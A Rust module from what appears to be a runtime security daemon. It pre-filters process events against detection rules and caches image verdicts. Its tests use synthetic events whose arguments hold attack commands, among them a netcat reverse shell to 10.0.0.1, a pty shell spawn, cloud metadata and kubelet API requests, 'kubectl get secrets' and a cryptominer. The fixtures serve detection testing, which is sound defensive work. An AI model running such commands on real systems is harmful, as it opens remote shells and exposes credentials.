//! What the rule index needs to know of an event before its document is built: the
//! process's and its parent's name, executable and args, the container id, and the event's
//! action and type, read from the process-table snapshot exactly as
//! [`crate::ecs::DocBuilder`] renders them. With it the daemon skips the document (the most
//! expensive per-event step) for every event no rule can match.
//!
//! Earlier still, before the snapshot is built, an *image probe* knows only the subject's
//! image (name, executable, args) and the event kind; the rest is unknown. Rules that are
//! certainly false on that already spare the snapshot (leaders, parent, container).

use crate::ecs::EcsDocument;
use crate::ecs::field::{Document, FieldId, FieldValue, Schema};
use crate::event::EventKind;
use crate::process::{ExecImage, Snapshot};
use crate::rules::{Probe, RuleSet};

/// Which part of the snapshot a field reads.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Source {
    Name(Who),
    Executable(Who),
    Args(Who),
    Action,
    Type,
    Category,
    Kind,
    /// `process.entry_leader.entry_meta.type`.
    EntryType,
    /// `container.id`.
    ContainerId,
    /// The same in every document of one builder (`host.*`): read from its base document.
    Base,
    /// A field the documents never carry (`file.*` on process events).
    Never,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Who {
    Subject = 0,
    Parent = 1,
}

/// The probe's fields, resolved once in the rules' schema.
#[derive(Debug)]
pub struct ProbeFields {
    /// By field id.
    fields: Vec<Option<Source>>,
    /// Rendered-args buffers, reused from event to event (their strings keep their
    /// capacity): no allocation per probe once warm.
    pool: std::cell::RefCell<Vec<Vec<String>>>,
    /// Host and agent only ([`crate::ecs::DocBuilder::base`]).
    base: EcsDocument,
    /// Verdicts of image probes ([`ProbeFields::image_may_match`]).
    verdicts: std::cell::RefCell<Verdicts>,
}

/// Image-probe verdicts by event kind and image content, for one rule set. An image probe
/// reads nothing else (the host fields are those of this builder), so equal keys get equal
/// verdicts: forks of a long-lived shell, the exits of its commands and repeated commands
/// are then decided by one hash lookup.
#[derive(Debug, Default)]
struct Verdicts {
    /// [`RuleSet::id`] of the set the verdicts are about.
    rules: u64,
    map: rustc_hash::FxHashMap<Box<[u8]>, bool>,
    /// Bytes of the keys in `map`.
    bytes: usize,
    /// The key being built, reused from event to event.
    key: Vec<u8>,
    hits: u64,
}

/// Verdicts kept at most (then all are dropped and the cache refills).
const VERDICTS_MAX: usize = 4096;
/// Key bytes kept at most (the same), so hostile argument lists cost bounded memory.
const VERDICT_BYTES_MAX: usize = 1 << 20;
/// Images whose key is longer than this (bytes) are not cached.
const VERDICT_KEY_MAX: usize = 2048;

/// The length [`verdict_key`] gives `image`.
fn verdict_key_len(image: &ExecImage) -> usize {
    1 + 8 * (3 + image.args.len())
        + image.name.len()
        + image.executable.len()
        + image.args.iter().map(Vec::len).sum::<usize>()
}

/// Appends `kind` and the image's name, executable and args, each length-prefixed (so
/// different images give different keys).
fn verdict_key(key: &mut Vec<u8>, image: &ExecImage, kind: EventKind) {
    key.clear();
    key.push(kind as u8);
    let mut part = |b: &[u8]| {
        key.extend_from_slice(&(b.len() as u64).to_le_bytes());
        key.extend_from_slice(b);
    };
    part(&image.name);
    part(&image.executable);
    key.extend_from_slice(&(image.args.len() as u64).to_le_bytes());
    for a in &image.args {
        key.extend_from_slice(&(a.len() as u64).to_le_bytes());
        key.extend_from_slice(a);
    }
}

impl ProbeFields {
    /// `base` is the builder's base document: the fields every document copies from it.
    pub fn new(schema: &dyn Schema, base: EcsDocument) -> Self {
        use Source::*;
        use Who::*;
        let named = [
            ("process.name", Name(Subject)),
            ("process.executable", Executable(Subject)),
            ("process.args", Args(Subject)),
            ("process.parent.name", Name(Parent)),
            ("process.parent.executable", Executable(Parent)),
            ("process.parent.args", Args(Parent)),
            ("event.action", Action),
            ("event.type", Type),
            ("event.category", Category),
            ("event.kind", Kind),
            ("process.entry_leader.entry_meta.type", EntryType),
            ("container.id", ContainerId),
            ("host.os.type", Base),
            ("host.os.name", Base),
            ("host.os.family", Base),
            ("host.os.platform", Base),
            ("host.architecture", Base),
        ];
        let never = crate::ecs::UNPOPULATED_FIELDS
            .iter()
            .map(|(p, _)| (*p, Never));
        let mut fields = Vec::new();
        for (id, src) in named
            .into_iter()
            .chain(never)
            .filter_map(|(p, s)| schema.resolve(p).map(|d| (d.id.0 as usize, s)))
        {
            if fields.len() <= id {
                fields.resize(id + 1, None);
            }
            fields[id] = Some(src);
        }
        ProbeFields {
            fields,
            pool: Default::default(),
            base,
            verdicts: Default::default(),
        }
    }

    /// A probe of one snapshot.
    pub fn probe<'a>(&'a self, snap: &'a Snapshot) -> SnapshotProbe<'a> {
        SnapshotProbe {
            fields: self,
            subject: &snap.subject.image,
            kind: snap.kind,
            snap: Some(snap),
            args: Default::default(),
        }
    }

    /// A probe of an event before its snapshot: the subject's `image` after the event and
    /// the event's `kind` are known; the parent, leaders and container are not.
    pub fn image_probe<'a>(&'a self, image: &'a ExecImage, kind: EventKind) -> SnapshotProbe<'a> {
        SnapshotProbe {
            fields: self,
            subject: image,
            kind,
            snap: None,
            args: Default::default(),
        }
    }
}

impl ProbeFields {
    /// Whether some rule of `rules` could match an event of `kind` whose subject runs
    /// `image`, from the image probe ([`ProbeFields::image_probe`],
    /// [`RuleSet::may_match_probe`]), remembered by image content and kind until `rules`
    /// is replaced.
    pub fn image_may_match(&self, rules: &RuleSet, image: &ExecImage, kind: EventKind) -> bool {
        let mut v = self.verdicts.borrow_mut();
        if v.rules != rules.id() {
            v.map.clear();
            v.bytes = 0;
            v.rules = rules.id();
        }
        // Sized first: an image too big to cache (hostile argument lists) is not copied.
        let cacheable = verdict_key_len(image) <= VERDICT_KEY_MAX;
        let mut key = std::mem::take(&mut v.key);
        if cacheable {
            verdict_key(&mut key, image, kind);
        }
        let known = cacheable
            .then(|| v.map.get(key.as_slice()).copied())
            .flatten();
        let verdict = match known {
            Some(b) => {
                v.hits += 1;
                b
            }
            None => {
                let b = rules.may_match_probe(&self.image_probe(image, kind));
                if cacheable {
                    if v.map.len() >= VERDICTS_MAX || v.bytes + key.len() > VERDICT_BYTES_MAX {
                        v.map.clear();
                        v.bytes = 0;
                    }
                    v.bytes += key.len();
                    v.map.insert(key.as_slice().into(), b);
                }
                b
            }
        };
        v.key = key;
        verdict
    }

    /// How many image verdicts came from the cache.
    #[cfg(test)]
    pub fn verdict_hits(&self) -> u64 {
        self.verdicts.borrow().hits
    }
}

/// One event seen through [`ProbeFields`]: a whole snapshot, or only the subject's image
/// and the event kind. `process.args` is rendered (once, on first use) into strings; the
/// rest is borrowed.
pub struct SnapshotProbe<'a> {
    fields: &'a ProbeFields,
    /// The subject's image (the snapshot's, when there is one).
    subject: &'a ExecImage,
    kind: EventKind,
    /// `None` for an image probe: fields read from it are unknown.
    snap: Option<&'a Snapshot>,
    args: [std::cell::OnceCell<Option<Vec<String>>>; 2],
}

impl Drop for SnapshotProbe<'_> {
    fn drop(&mut self) {
        let mut pool = self.fields.pool.borrow_mut();
        for a in &mut self.args {
            if let Some(Some(v)) = a.take() {
                pool.push(v);
            }
        }
    }
}

/// `args` rendered into `buf` (reusing its strings); false when one is not UTF-8.
fn render(args: &[Vec<u8>], buf: &mut Vec<String>) -> bool {
    buf.truncate(args.len());
    for (i, a) in args.iter().enumerate() {
        let Ok(s) = std::str::from_utf8(a) else {
            return false;
        };
        match buf.get_mut(i) {
            Some(b) => {
                b.clear();
                b.push_str(s);
            }
            None => buf.push(s.to_owned()),
        }
    }
    true
}

/// A single string field the builder leaves out when empty; `None` when not UTF-8 (the
/// document holds a lossy rendering the probe does not compute).
fn single(b: &[u8]) -> Option<FieldValue<'_>> {
    match std::str::from_utf8(b).ok()? {
        "" => Some(FieldValue::Missing),
        s => Some(FieldValue::Str(s)),
    }
}

impl Probe for SnapshotProbe<'_> {
    fn field(&self, field: FieldId) -> Option<FieldValue<'_>> {
        let source = (*self.fields.fields.get(field.0 as usize)?)?;
        // `None` (unknown) for the parent of an image probe; `Some(None)` for no parent.
        let image = |who: Who| -> Option<Option<&ExecImage>> {
            match who {
                Who::Subject => Some(Some(self.subject)),
                Who::Parent => self.snap.map(|s| s.parent.as_ref().map(|p| &*p.image)),
            }
        };
        let (action, ty) = crate::ecs::action_and_type(self.kind);
        match source {
            Source::Never => Some(FieldValue::Missing),
            Source::Action => Some(FieldValue::Str(action)),
            Source::Type => Some(FieldValue::Str(ty)),
            Source::Category => Some(FieldValue::Str("process")),
            Source::Kind => Some(FieldValue::Str("event")),
            Source::EntryType => Some(
                self.snap?
                    .entry_leader
                    .as_ref()
                    .map_or(FieldValue::Missing, |e| {
                        FieldValue::Str(e.entry_type.as_str())
                    }),
            ),
            Source::ContainerId => Some(
                self.snap?
                    .container
                    .as_ref()
                    .map_or(FieldValue::Missing, |c| FieldValue::Str(&c.reference.id)),
            ),
            Source::Base => Some(self.fields.base.field(field)),
            Source::Name(w) => image(w)?.map_or(Some(FieldValue::Missing), |i| single(&i.name)),
            Source::Executable(w) => {
                image(w)?.map_or(Some(FieldValue::Missing), |i| single(&i.executable))
            }
            Source::Args(w) => {
                let Some(i) = image(w)? else {
                    return Some(FieldValue::Missing);
                };
                let slot = &self.args[w as usize];
                let args = slot.get_or_init(|| {
                    let mut buf = self.fields.pool.borrow_mut().pop().unwrap_or_default();
                    if render(&i.args, &mut buf) {
                        Some(buf)
                    } else {
                        self.fields.pool.borrow_mut().push(buf);
                        None
                    }
                });
                args.as_deref().map(FieldValue::Strs)
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ecs::DocBuilder;
    use crate::event::{EventKind, ProcessEvent};
    use crate::host::{AgentInfo, HostInfo};
    use crate::process::{IdContext, ProcessTable, TableConfig};
    use crate::rules::{Rule, RuleSet};

    /// Fork, exec (of `argv`, in a container or not) and exit of one process under `parent`.
    fn life(
        tgid: u32,
        parent: u32,
        t: u64,
        exe: &[u8],
        argv: &[&[u8]],
        c: bool,
    ) -> Vec<ProcessEvent> {
        let base = ProcessEvent {
            boot_ns: t,
            pid: tgid,
            tgid,
            ppid: parent,
            actor_pid: parent,
            cgroup_id: if c { 77 } else { 1 },
            cgroup_leaf: if c {
                format!("docker-{:064x}.scope", 0xabcdef_u64).into_bytes()
            } else {
                b"session-1.scope".to_vec()
            },
            cgroup_parent: b"system.slice".to_vec(),
            pid_ns_ino: if c { 4026532001 } else { 4026531836 },
            mnt_ns_ino: if c { 4026532000 } else { 4026531841 },
            ns_pid: tgid,
            start_boot_ns: t,
            ..Default::default()
        };
        let fork = ProcessEvent {
            kind: Some(EventKind::Fork),
            comm: b"bash".to_vec(),
            exe_path: b"/usr/bin/bash".to_vec(),
            ..base.clone()
        };
        let exec = ProcessEvent {
            kind: Some(EventKind::Exec),
            boot_ns: t + 1,
            comm: argv[0].iter().take(15).copied().collect(),
            filename: exe.to_vec(),
            exe_path: exe.to_vec(),
            argv: argv.iter().map(|a| a.to_vec()).collect(),
            ..base.clone()
        };
        let exit = ProcessEvent {
            kind: Some(EventKind::Exit),
            boot_ns: t + 2,
            exit_code: Some(0),
            ..exec.clone()
        };
        vec![fork, exec, exit]
    }

    /// The probe's three-valued verdicts agree with the built document for every rule of
    /// the corpus and the shipped rule, and `may_match_probe` is never false for an event
    /// some rule matches: skipping the document never loses an alert.
    #[test]
    fn probe_agrees_with_the_document() {
        use crate::testsupport::{Corpus, Need, corpus, require};
        let needs = [Need::Corpus(Corpus::CloudDefend)];
        if !require(
            "daemon::probe::tests::probe_agrees_with_the_document",
            &needs,
        ) {
            return;
        }
        let shipped = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../config/rules");
        let (rules, _) = RuleSet::load(
            &[corpus(Corpus::CloudDefend), shipped],
            crate::ecs::schema(),
        );
        assert!(rules.len() > 10, "corpus loaded: {}", rules.len());
        let host = HostInfo::collect(std::path::Path::new("/"));
        let agent = AgentInfo::new(&host, None);
        let mut docs = DocBuilder::new(&host, &agent);
        let fields = ProbeFields::new(crate::ecs::schema(), docs.base());
        let cfg = TableConfig {
            proc_root: None,
            enrich: None,
            host_mnt_ns: Some(4026531841),
            ..TableConfig::default()
        };
        let ids = IdContext {
            boot_id: "6f1e2d3c-0000-4000-8000-00000000beef".into(),
            pid_ns_ino: 4026531836,
            ticks_per_sec: 100,
        };
        let mut table = ProcessTable::new(cfg, ids);
        let programs: &[(&[u8], &[&[u8]])] = &[
            (b"/usr/bin/ssh", &[b"ssh", b"-V"]),
            (b"/usr/bin/ls", &[b"ls", b"-la", b"/tmp"]),
            (b"/usr/bin/bash", &[b"bash", b"-c", b"id; whoami"]),
            (b"/usr/bin/bash", &[b"bash", b"-i"]),
            (b"/usr/bin/perl", &[b"perl", b"-e", b"print 1"]),
            (
                b"/usr/bin/python3",
                &[b"python3", b"-c", b"import pty; pty.spawn('/bin/sh')"],
            ),
            (
                b"/usr/bin/curl",
                &[b"curl", b"http://169.254.169.254/latest/meta-data/"],
            ),
            (
                b"/usr/bin/cat",
                &[b"cat", b"/var/lib/kubelet/pki/kubelet.crt"],
            ),
            (
                b"/usr/bin/nc",
                &[b"nc", b"-e", b"/bin/sh", b"10.0.0.1", b"4444"],
            ),
            (b"/usr/bin/chmod", &[b"chmod", b"+x", b"/tmp/x"]),
            (b"/usr/bin/kubectl", &[b"kubectl", b"get", b"secrets"]),
            (b"/usr/bin/ss\xff", &[b"ss\xffh", b"\xff-V"]),
            (b"/usr/bin/base64", &[b"base64", b"-d", b"payload"]),
            (b"/tmp/.x/xmrig", &[b"xmrig", b"--donate-level", b"1"]),
            // Rules keyed on literals of patterns and regexes.
            (
                b"/usr/bin/curl",
                &[b"curl", b"-k", b"https://10.0.0.1:10250/pods"],
            ),
            (
                b"/usr/bin/ssh",
                &[b"ssh", b"-L", b"8080:10.0.0.1:80", b"user@10.0.0.2"],
            ),
            (
                b"/usr/bin/ssh",
                &[b"ssh", b"-o", b"PROXYCOMMAND=nc %h %p", b"host"],
            ),
            (b"/usr/local/bin/kubeletctl", &[b"kubeletctl", b"pods"]),
            (b"/usr/bin/.hidden", &[b".hidden"]),
            (b"/usr/bin/socat", &[b"socat", b"1.2.3.4:80:5.6.7.8:90"]),
            (
                b"/usr/bin/python3.11",
                &[b"python3", b"-c", b"import base64; base64.b64decode(x)"],
            ),
            (b"/usr/bin/nsenter", &[b"nsenter", b"--target=1", b"-m"]),
            (b"/usr/bin/caf\xc3\xa9", &[b"CAF\xc3\x89", b"-\xe2\x84\xaa"]),
        ];
        let mut events = Vec::new();
        let mut t = 1_000_000_000u64;
        // Two shells (host, container) and processes under them and under each other.
        events.extend(life(100, 1, t, b"/usr/bin/bash", &[b"bash"], false));
        events.extend(life(101, 1, t, b"/usr/bin/bash", &[b"bash"], true));
        events.retain(|e| e.kind != Some(EventKind::Exit));
        let mut tgid = 1000;
        for (i, (exe, argv)) in programs.iter().enumerate() {
            for c in [false, true] {
                for parent in [100 + c as u32, 1000 + i as u32, 99_999] {
                    t += 1_000_000;
                    tgid += 1;
                    events.extend(life(tgid, parent, t, exe, argv, c));
                }
            }
        }
        let (mut matched, mut skipped, mut known) = (0, 0, 0);
        let (mut skipped_early, mut known_early) = (0, 0);
        let mut matching_rules = std::collections::BTreeSet::new();
        let mut out: Vec<crate::rules::RuleIdx> = Vec::new();
        for ev in &events {
            // The image probe's verdicts, taken where the daemon takes them.
            let mut early: Vec<Option<bool>> = Vec::new();
            let mut may_early = true;
            let Some(snap) = table.apply_if(ev, |image, kind| {
                let probe = fields.image_probe(image, kind);
                early = rules
                    .rules()
                    .iter()
                    .map(|r| r.compiled.root.eval3(&probe))
                    .collect();
                may_early = rules.may_match_probe(&probe);
                // The remembered verdict is the verdict.
                assert_eq!(fields.image_may_match(&rules, image, kind), may_early);
                true
            }) else {
                continue;
            };
            let doc = docs.build(&snap, Some(ev));
            let probe = fields.probe(&snap);
            for (r, early) in rules.rules().iter().zip(&early) {
                let m = r.matches(&doc);
                if let Some(b) = r.compiled.root.eval3(&probe) {
                    known += 1;
                    assert_eq!(b, m, "{} on {ev:?}", r.meta.name);
                }
                if let Some(b) = early {
                    known_early += 1;
                    assert_eq!(*b, m, "{} (image probe) on {ev:?}", r.meta.name);
                }
            }
            rules.matches(&doc, &mut out);
            let may = rules.may_match_probe(&probe);
            assert!(may || out.is_empty(), "skipped a match: {ev:?}");
            assert!(may_early || out.is_empty(), "skipped a match early: {ev:?}");
            assert!(may_early || !may, "the image probe knows less: {ev:?}");
            matched += !out.is_empty() as usize;
            matching_rules.extend(out.iter().map(|&i| rules.rule(i).meta.name.clone()));
            skipped += !may as usize;
            skipped_early += !may_early as usize;
        }
        // The test means something: some events match, most of the rest are skipped.
        assert!(matched >= 4, "matched {matched}");
        assert!(
            matching_rules.len() >= 8,
            "rules matched: {matching_rules:?}"
        );
        assert!(
            skipped * 2 > events.len(),
            "skipped {skipped} of {}",
            events.len()
        );
        assert!(
            skipped_early * 2 > events.len(),
            "skipped early {skipped_early} of {}",
            events.len()
        );
        assert!(known > 1000, "decided {known}");
        assert!(known_early > 1000, "decided early {known_early}");
        assert!(
            fields.verdict_hits() > 50,
            "cached: {}",
            fields.verdict_hits()
        );
    }

    /// Image verdicts are remembered per rule set, event kind and whole image.
    #[test]
    fn image_verdicts_follow_rules_kind_and_image() {
        let schema = crate::ecs::schema();
        let set = |q: &str| {
            let rule = Rule {
                meta: Default::default(),
                query: q.into(),
                path: "test".into(),
                compiled: crate::rules::compile_query(q, schema).unwrap(),
            };
            RuleSet::new(vec![rule], schema)
        };
        let ssh = set(r#"process where event.action == "exec" and process.name == "ssh""#);
        let ls = set(r#"process where event.action == "exec" and process.name == "ls""#);
        let exe = set(r#"process where process.executable == "/usr/bin/ssh""#);
        let host = HostInfo::collect(std::path::Path::new("/"));
        let docs = DocBuilder::new(&host, &AgentInfo::new(&host, None));
        let fields = ProbeFields::new(schema, docs.base());
        let image = |name: &[u8], exe: &[u8]| ExecImage {
            name: name.to_vec(),
            executable: exe.to_vec(),
            args: vec![name.to_vec(), b"-V".to_vec()],
            args_truncated: false,
        };
        let ssh_img = image(b"ssh", b"/usr/bin/ssh");
        let ls_img = image(b"ls", b"/usr/bin/ls");
        // (rules, image, kind, verdict), in order: repeated rows come from the cache.
        let rows: &[(&RuleSet, &ExecImage, EventKind, bool)] = &[
            (&ssh, &ssh_img, EventKind::Exec, true),
            (&ssh, &ssh_img, EventKind::Exec, true),
            (&ssh, &ssh_img, EventKind::Fork, false),
            (&ssh, &ls_img, EventKind::Exec, false),
            (&ls, &ssh_img, EventKind::Exec, false),
            (&ls, &ls_img, EventKind::Exec, true),
            (&ssh, &ssh_img, EventKind::Exec, true),
            // Name and executable are kept apart in the key.
            (&exe, &image(b"ssh", b"/usr/bin/ssh"), EventKind::Fork, true),
            (
                &exe,
                &image(b"ssh/usr/bin", b"/ssh"),
                EventKind::Fork,
                false,
            ),
            (&exe, &image(b"ssh", b"/usr/bin/ssh"), EventKind::Exit, true),
        ];
        for (i, (rules, img, kind, want)) in rows.iter().enumerate() {
            assert_eq!(fields.image_may_match(rules, img, *kind), *want, "row {i}");
            assert_eq!(
                rules.may_match_probe(&fields.image_probe(img, *kind)),
                *want,
                "row {i} uncached"
            );
        }
        // An image too big to cache is decided every time and never remembered.
        let mut big = image(b"ssh", b"/usr/bin/ssh");
        big.args.push(vec![b'x'; VERDICT_KEY_MAX]);
        for _ in 0..2 {
            assert!(fields.image_may_match(&ssh, &big, EventKind::Exec));
        }
        assert_eq!(
            fields.verdict_hits(),
            1,
            "only row 1 repeats within one set"
        );
        // The key's size is known before it is built.
        for img in [&ssh_img, &ls_img, &big] {
            let mut key = Vec::new();
            verdict_key(&mut key, img, EventKind::Exec);
            assert_eq!(key.len(), verdict_key_len(img));
        }
    }
}
